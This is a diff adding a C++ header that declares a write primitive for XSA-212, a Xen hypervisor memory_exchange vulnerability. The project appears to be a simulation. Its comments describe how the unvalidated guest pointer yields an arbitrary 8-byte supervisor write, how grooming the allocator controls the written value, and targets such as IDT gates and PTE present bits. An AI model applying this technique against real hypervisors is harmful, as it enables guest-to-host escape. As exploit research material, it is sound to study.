@@ -1,0 +1,66 @@
+// The XSA-212 arbitrary-write primitive.
+//
+// memory_exchange() on a vulnerable hypervisor writes each replacement MFN
+// through the unvalidated guest pointer `out.extent_start` — an 8-byte
+// supervisor write at an attacker-chosen linear address, but with a value
+// the attacker only influences through allocator grooming. This class
+// packages the two stages the real PoCs needed:
+//
+//   write_mfn_at():  one raw primitive shot (enough to wreck an IDT gate);
+//   write_u64():     a fully controlled 8-byte write, built by grooming the
+//                    allocator until each fresh MFN's low byte matches the
+//                    next target byte, sweeping the write window one byte at
+//                    a time (low to high). The sweep spills up to 7 bytes of
+//                    allocator garbage just past the target; zero_byte_at()
+//                    lets callers neutralize the one byte that matters
+//                    (e.g. a following PTE's present bit).
+#pragma once
+
+#include <cstdint>
+#include <optional>
+
+#include "guest/kernel.hpp"
+
+namespace ii::xsa {
+
+class ExchangeWritePrimitive {
+ public:
+  /// Prepares a sacrificial page in `guest` (allocated and unmapped so the
+  /// hypervisor will accept it for exchange).
+  explicit ExchangeWritePrimitive(guest::GuestKernel& guest);
+
+  /// Whether setup succeeded (a page could be sacrificed).
+  [[nodiscard]] bool ready() const { return ready_; }
+
+  /// One raw exchange: writes the fresh MFN (8 bytes) at linear `target`.
+  /// Returns the hypercall status; on success `last_mfn()` is the value
+  /// that was written.
+  long write_mfn_at(sim::Vaddr target);
+
+  /// Groomed fully-controlled write of `value` at linear `target`.
+  /// Returns false when the hypercall refuses (fixed hypervisor) or when
+  /// grooming fails to converge; rc() has the last status.
+  bool write_u64(sim::Vaddr target, std::uint64_t value);
+
+  /// Groom a single zero byte at `target` (cleanup of sweep spill).
+  bool zero_byte_at(sim::Vaddr target);
+
+  [[nodiscard]] long rc() const { return rc_; }
+  [[nodiscard]] std::uint64_t last_mfn() const { return last_mfn_; }
+  [[nodiscard]] unsigned exchanges_used() const { return exchanges_; }
+
+ private:
+  /// Loop exchanges until the fresh MFN's low byte equals `byte`, writing
+  /// at `target` each time. False when the hypercall fails or the loop
+  /// exceeds its budget.
+  bool groom_byte_at(sim::Vaddr target, std::uint8_t byte);
+
+  guest::GuestKernel* guest_;
+  sim::Pfn sacrifice_{};
+  bool ready_ = false;
+  long rc_ = 0;
+  std::uint64_t last_mfn_ = 0;
+  unsigned exchanges_ = 0;
+};
+
+}  // namespace ii::xsa
